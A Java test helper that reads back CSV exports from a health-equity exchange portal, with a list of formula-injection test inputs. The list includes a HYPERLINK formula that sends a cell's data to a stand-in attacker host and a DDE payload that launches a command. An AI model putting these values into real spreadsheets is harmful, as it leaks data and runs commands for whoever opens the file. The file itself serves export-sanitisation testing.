package org.healthequity.exchange.support;

import java.util.ArrayList;
import java.util.List;

/** Reads back the CSV the portal writes (RFC 4180: quoted cells, doubled quotes, CR LF rows), for export tests. */
public final class Spreadsheets {

    /** Values people can type that a spreadsheet would run as a formula if written as they are. */
    public static final List<String> FORMULAS = List.of("=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
            "+SUM(1,1)", "-2+3", "@SUM(1,1)", "=cmd|' /C calc'!A0", "\u00A0=1+1", "\u3000=1+1", "\uFF1D1+1",
            "\uFF0B1+1", "\uFF201+1");

    private Spreadsheets() {
    }

    public static List<List<String>> csv(String text) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        int start = text.startsWith("\uFEFF") ? 1 : 0;
        for (int i = start; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                cell.append(c);
            }
        }
        if (!row.isEmpty() || cell.length() > 0) {
            row.add(cell.toString());
            rows.add(row);
        }
        return rows;
    }
}
